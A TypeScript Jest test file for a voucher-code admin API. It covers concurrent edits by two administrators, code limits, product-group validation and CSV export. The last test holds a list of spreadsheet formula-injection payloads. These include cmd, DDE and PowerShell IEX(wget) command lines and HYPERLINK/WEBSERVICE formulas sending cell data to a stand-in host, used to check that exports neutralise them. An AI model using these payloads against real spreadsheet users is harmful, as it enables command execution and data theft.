import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { VOUCHER_CODES_MAX } from '#shared/limits/vouchers.ts';
import { countRows, findRows, updateRows } from '#shared/server/database/model-rows.ts';
import { change } from '#shared/server/database/sql.ts';
import { Activity } from '#shared/server/models/activity.ts';
import { Voucher } from '#shared/server/models/voucher.ts';
import { VoucherCode } from '#shared/server/models/voucher-code.ts';
import { openWorld, type World } from '#test/factories/open-world.ts';
import { anAdmin, visitAs } from '#test/factories/people.ts';
import type { Visitor } from '#test/setup/visitor.ts';

let world: World;
let admin: Visitor;
let other: Visitor;

beforeAll(async () => {
  world = await openWorld();
  admin = await visitAs(world, await anAdmin(world));
  other = await visitAs(world, await anAdmin(world));
});

afterAll(() => world.close());

const LABEL = { de: 'Herzmonat', en: 'Heart month', fr: 'Mois du cœur', it: 'Mese del cuore' };
const BODY = { label: LABEL, discount: { type: 'percent', value: 10 } } as const;
const create = async () => (await admin.need('createVoucher', { body: BODY }))._id;
const add = (by: Visitor, id: string, body: { code: string } | { count: number }) =>
  by.call('addVoucherCodes', { params: { id }, body });
const codesOf = async (id: string) => (await admin.need('listVoucherCodes', { params: { id } })).items;
const countCodes = (id: string) => countRows(world.services, VoucherCode, { voucherId: id });

describe('two administrators at once', () => {
  it('who add the same code: one voucher has it, the other one hears that it is taken', async () => {
    const [one, two] = [await create(), await create()];
    for (const code of ['SAME-1', 'SAME-2', 'SAME-3', 'SAME-4']) {
      const both = await Promise.all([
        add(admin, one, { code }),
        add(other, two, { code: code.toLowerCase() }),
        add(other, one, { code }),
      ]);
      expect(both.map(({ status }) => status).sort()).toEqual([200, 409, 409]);
    }
    expect((await countCodes(one)) + (await countCodes(two))).toBe(4);
  });

  it('who draw codes: every voucher has as many as were asked for, none twice', async () => {
    const [one, two] = [await create(), await create()];
    const drawn = await Promise.all(
      [one, two, one, two].map((id, at) => add(at % 2 ? other : admin, id, { count: 40 })),
    );
    expect(drawn.map(({ reply }) => reply)).toEqual([40, 40, 40, 40].map((added) => ({ added })));
    const codes = [...(await codesOf(one)), ...(await codesOf(two))].map(({ code }) => code);
    expect([codes.length, new Set(codes).size]).toEqual([160, 160]);
  });

  it('who fill a voucher: it never has more codes than it may', async () => {
    const id = await create();
    const room = 5;
    await change(
      world.services,
      `INSERT INTO voucher_codes (id, voucherId, code, createdAt)
        SELECT UUID(), ?, CONCAT('FILL-', seq), UTC_TIMESTAMP(3) FROM seq_1_to_${VOUCHER_CODES_MAX - room}`,
      [id],
    );
    const both = await Promise.all([add(admin, id, { count: 3 }), add(other, id, { count: 3 })]);
    expect(both.map(({ status }) => status).sort()).toEqual([200, 409]);
    const refused = both.find(({ status }) => status === 409);
    expect(refused?.error).toMatchObject({ error: 'voucher-codes-full', details: { most: VOUCHER_CODES_MAX } });
    expect((await add(admin, id, { count: 2 })).status).toBe(200);
    expect((await add(admin, id, { code: 'ONE-TOO-MANY' })).error.error).toBe('voucher-codes-full');
    expect(await countCodes(id)).toBe(VOUCHER_CODES_MAX);
  });

  it('who delete a code and spell it anew: it is one or the other, and the history says the same', async () => {
    for (let round = 0; round < 6; round += 1) {
      const id = await create();
      await add(admin, id, { code: `OLD-${round}` });
      const [code] = await codesOf(id);
      const params = { id: code?._id ?? '' };
      const [gone, spelt] = await Promise.all([
        admin.call('deleteVoucherCode', { params }),
        other.call('changeVoucherCode', { params, body: { code: `NEW-${round}` } }),
      ]);
      expect(gone.status).toBe(204);
      expect([204, 404]).toContain(spelt.status);
      expect(await codesOf(id)).toEqual([]);
      const told = await findRows(world.services, Activity, ['event'], { where: { entityId: id } });
      const wasSpelt = told.some(({ event }) => event === 'vouchers.code-changed');
      expect(wasSpelt).toBe(spelt.status === 204);
    }
  });

  it('who change a voucher they both read: the second one is told', async () => {
    const id = await create();
    const change5 = (by: Visitor, value: number) =>
      by.call('changeVoucher', {
        params: { id },
        body: { ...BODY, discount: { type: 'percent', value }, version: 1 },
      });
    const both = await Promise.all([change5(admin, 20), change5(other, 30)]);
    expect(both.map(({ status }) => status).sort()).toEqual([200, 409]);
  });
});

describe('a change of a voucher', () => {
  const voucherOf = async (id: string) => (await admin.need('listVouchers', { query: { id } })).items[0];
  const put = (id: string, more: object) => admin.call('changeVoucher', { params: { id }, body: { ...BODY, ...more } });

  it('keeps a group that the shop has no more, takes no other one, and each once', async () => {
    const id = await create();
    expect((await put(id, { productGroups: ['heart', 'heart'] })).status).toBe(200);
    expect((await voucherOf(id))?.productGroups).toEqual(['heart']);
    await updateRows(world.services, Voucher, { productGroups: ['former', 'heart'] }, { id });
    expect((await put(id, { productGroups: ['former', 'heart', 'sport'] })).status).toBe(200);
    const refused = await put(id, { productGroups: ['former', 'heart', 'another'] });
    expect(refused.error.fields).toMatchObject([{ path: 'productGroups[2]', key: 'field.choose' }]);
    expect((await put(id, { productGroups: ['former'] })).status).toBe(200);
    expect((await put(id, { productGroups: [] })).status).toBe(200);
    expect((await put(id, { productGroups: ['former'] })).status).toBe(400);
  });

  it('leaves what it does not name', async () => {
    const id = await create();
    const expiration = '2030-05-01T22:00:00.000Z';
    await put(id, { productGroups: ['heart'], redemptionLimit: 7, published: true, expiration });
    expect((await put(id, {})).reply).toEqual({ version: 3 });
    expect(await voucherOf(id)).toMatchObject({
      ...{ productGroups: ['heart'], redemptionLimit: 7, published: true, expiration, version: 3 },
    });
  });
});

/** What spreadsheets have been made to run: formulas, commands, links, and the signs that hide them. */
const PAYLOADS = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x)'!A0"],
  ...[
    '=HYPERLINK("https://x.example?"&A1;"Klick")',
    '=WEBSERVICE("https://x.example/"&A1)',
    '=IMPORTXML("http://x","//a")',
  ],
  ...[
    '=IMPORTDATA("https://x.example")',
    '=IMPORTHTML("https://x";"table";1)',
    '=IMPORTRANGE("x";"A1")',
    '=DDE("cmd";"/C calc";"1")',
  ],
  ...[
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\calc.exe'!''",
    "=2+5+cmd|'/C calc'!A0",
  ],
  ...['＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', '=-1', '==1', '=@A1', '-@A1', '+-1'],
  ...['";=1+1', '"=1+1', ';=1+1', "=1+1';=2", '=A1&"x";"y"', "-2+3+cmd|' /C calc'!D2"],
];
/** Also as they look in full width. */
const RUNS = /^[=+\-@\t\r＝＋－＠]/;

/** The cells of CSV as a spreadsheet reads them (RFC 4180). */
function readCells(text: string, separator: string): string[][] {
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"${separator}\\r\\n]*))(${separator}|\\r\\n|$)`, 'y');
  const rows: string[][] = [[]];
  for (let found = cell.exec(text); found && cell.lastIndex <= text.length; found = cell.exec(text)) {
    rows.at(-1)?.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] === '\r\n') rows.push([]);
    if (found[3] === '' || cell.lastIndex === text.length) break;
  }
  return rows.filter((row) => row.length > 1);
}

it('a file of codes runs nothing, whatever the voucher is called, and keeps its columns', async () => {
  const id = await create();
  await add(admin, id, { code: '-1-1' });
  for (const payload of PAYLOADS) {
    const label = { ...LABEL, de: payload, en: payload };
    expect((await admin.call('changeVoucher', { params: { id }, body: { ...BODY, label } })).status).toBe(200);
    for (const [separator, sign] of [
      ['semicolon', ';'],
      ['comma', ','],
    ] as const) {
      const { text } = await admin.call('downloadVoucherCodes', { params: { id }, query: { separator } } as never);
      const rows = readCells(text.replace('\uFEFF', ''), sign);
      expect([payload, rows.length, rows[1]?.length]).toEqual([payload, 2, 7]);
      expect(rows.flat().filter((cell) => RUNS.test(cell))).toEqual([]);
      expect(rows[1]?.[1]?.replace(/^'/, '')).toBe(payload);
    }
  }
}, 120_000);
